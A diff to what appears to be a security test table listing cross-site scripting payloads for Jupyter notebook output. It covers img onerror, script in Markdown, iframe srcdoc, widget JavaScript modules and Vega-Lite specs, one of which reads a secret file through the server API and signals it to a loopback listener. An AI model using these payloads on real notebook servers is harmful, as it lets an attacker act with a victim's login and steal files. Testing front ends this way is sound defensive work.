@@ -1,8 +1,8 @@
 """What a cell can put out to act with the login of the person who looks at it.
 
-One row an attack: a cell's source, and the witness that it leaves when it wins. `FILE` is a file
-made through the server, `CONTACT` a request to a loopback listener. Rows that change or leave
-the page stand in a notebook of their own (`alone`).
+One row an attack: its cells' source, and the witness that it leaves when it wins: a file made
+through the server, or a contact with a loopback listener. Rows that change or leave the page
+stand in a notebook of their own (`alone`).
 """
 
 from __future__ import annotations
@@ -18,19 +18,27 @@ Witness = Literal["file", "contact"]
 
 @dataclass(frozen=True)
 class Attack:
-    """`source(listener_url)` is the cell. `click` is a selector that a person would
-    click; `leaves` says that a won attack takes the page away; `note` why a front end stops it;
-    `needs_rights` that the sandboxed kernel asks or refuses before there is any output."""
+    """`source(listener_url)` is the cell, or several with `NEXT_CELL` between them.
+
+    `click` and `hover` are selectors of what a person would click or pass over; `leaves` says that
+    a won attack takes the page away; `note` why a front end stops it; `needs_rights` that the
+    sandboxed kernel asks or refuses before there is any output. `file` is a file beside the
+    notebook that an earlier cell had written, by name, with a script in it.
+    """
 
     name: str
     witness: Witness
     source: Callable[[str], str]
     click: str = ""
+    hover: str = ""
+    file: str = ""
     alone: bool = False
     leaves: bool = False
     needs_rights: bool = False
     note: str = ""
 
+
+NEXT_CELL = "\n# ---- the next cell\n"
 
 _IMPORT = "from IPython.display import HTML, Javascript, Markdown, Math, SVG, display\n"
 _IMAGE = '<img src=x onerror="{}">'
@@ -69,7 +77,8 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("terminal", "file", _terminal, needs_rights=True),
     _html("onerror", "file", '<img src=x onerror="{js}">'),
     _call("javascript", "file", "Javascript(JS)"),
-    _call("markdown-script", "file", "Markdown('*x*\\n\\n' + BAD)"),
+    _call("markdown-script", "file", "Markdown('*x*\\n\\n<script>' + JS + '</script>')"),
+    _call("markdown-onerror", "file", "Markdown('*x*\\n\\n' + BAD)"),
     _html("srcdoc", "file", '<iframe srcdoc="<script>{js}</script>"></iframe>'),
     _html("link-stylesheet", "contact", '<link rel="stylesheet" href="{url}">'),
     _html("css-url", "contact", '<div style="background:url({url})">x</div>'),
@@ -90,6 +99,42 @@ ATTACKS: tuple[Attack, ...] = (
         "file",
         "open('evil.js', 'w').write(JS)\nHTML('<script src=\"/files/evil.js\"></script>')",
         needs_rights=True,
+    ),
+    _html(
+        "script-file-there",
+        "file",
+        '<script src="/files/there.js"></script>',
+        file="there.js",
+    ),
+    _call(
+        "widget-code",
+        "file",
+        "import ipywidgets, traitlets\n"
+        "class Evil(ipywidgets.DOMWidget):\n"
+        "    _model_module = traitlets.Unicode('anywidget').tag(sync=True)\n"
+        "    _model_name = traitlets.Unicode('AnyModel').tag(sync=True)\n"
+        "    _model_module_version = traitlets.Unicode('*').tag(sync=True)\n"
+        "    _view_module = traitlets.Unicode('anywidget').tag(sync=True)\n"
+        "    _view_name = traitlets.Unicode('AnyView').tag(sync=True)\n"
+        "    _view_module_version = traitlets.Unicode('*').tag(sync=True)\n"
+        "    _anywidget_id = traitlets.Unicode('evil').tag(sync=True)\n"
+        "    _esm = traitlets.Unicode('export default { render({ model, el }) { ' + JS + ' } }'"
+        ").tag(sync=True)\n"
+        "Evil()",
+    ),
+    _call(
+        "widget-view",
+        "file",
+        "import ipywidgets, traitlets\n"
+        "class Shown(ipywidgets.Text):\n"
+        "    _view_name = traitlets.Unicode('HTMLView').tag(sync=True)\n"
+        "Shown(value=BAD)",
+    ),
+    _call(
+        "widget-view-update",
+        "file",
+        "import ipywidgets\nbox = ipywidgets.Text(value=BAD)\n"
+        "box.set_trait('_view_name', 'HTMLView')\ndisplay(box)",
     ),
     _call(
         "anywidget",
@@ -136,6 +181,39 @@ ATTACKS: tuple[Attack, ...] = (
         "{'type': 'json'}}, 'mark': 'point', 'encoding': {'x': {'field': 'a', 'type': "
         "'quantitative'}}}}, raw=True)",
     ),
+    _call(
+        "vega-api",
+        "contact",
+        "display({'application/vnd.vegalite.v5+json': {'data': {'url': "
+        "'/api/contents/secret.txt?content=1', 'format': {'type': 'json'}}, 'transform': ["
+        "{'calculate': 'datum.content == \"secret\" ? \"' + URL + '\" : \"\"', 'as': 'u'}], "
+        "'mark': {'type': 'image', 'width': 9, 'height': 9}, 'encoding': "
+        "{'url': {'field': 'u', 'type': 'nominal'}}}}, raw=True)",
+    ),
+    _call(
+        "vega-control",
+        "file",
+        "display({'application/vnd.vegalite.v5+json': {'data': {'values': [{'a': 1}]}, 'mark': "
+        "'point', 'params': [{'name': 'p', 'value': 'x', 'bind': {'input': 'text', 'name': "
+        "'clickme', 'class': 'clickvega', 'onclick': JS}}]}}, raw=True)",
+        click="input.clickvega",
+    ),
+    _call(
+        "vega-cursor",
+        "contact",
+        "display({'application/vnd.vegalite.v5+json': {'data': {'values': [{'a': 1}]}, 'width': "
+        "200, 'height': 90, 'mark': {'type': 'rect', 'cursor': 'url(' + URL + '), auto'}, "
+        "'description': 'with a cursor'}}, raw=True)",
+        hover="[aria-label='with a cursor'] canvas",
+    ),
+    _call(
+        "vega-tooltip",
+        "contact",
+        "display({'application/vnd.vegalite.v5+json': {'data': {'values': [{'image': URL}]}, "
+        "'width': 200, 'height': 90, 'mark': {'type': 'rect', 'tooltip': {'content': 'data'}}, "
+        "'description': 'with a tooltip'}}, raw=True)",
+        hover="[aria-label='with a tooltip'] canvas",
+    ),
     _call("markdown-image", "contact", "Markdown('![x](' + URL + ')')"),
     _html("html-image", "contact", '<img src="{url}">'),
     _html("html-audio", "contact", '<audio src="{url}" autoplay preload="auto"></audio>'),
@@ -151,6 +229,18 @@ ATTACKS: tuple[Attack, ...] = (
         "update-display",
         "file",
         "handle = display('before', display_id=True)\nhandle.update(HTML(BAD))",
+    ),
+    _call(
+        "update-other-display",
+        "file",
+        "display('before', display_id='shown-before')" + NEXT_CELL + "from IPython.display import "
+        "HTML, update_display\nupdate_display(HTML(BAD), display_id='shown-before')",
+    ),
+    _call(
+        "mathjax-link",
+        "contact",
+        "Math(r'\\href{' + URL + r'}{x^2}')",
+        click="mjx-container a[href$='/mathjax-link']",
     ),
     _html(
         "base",
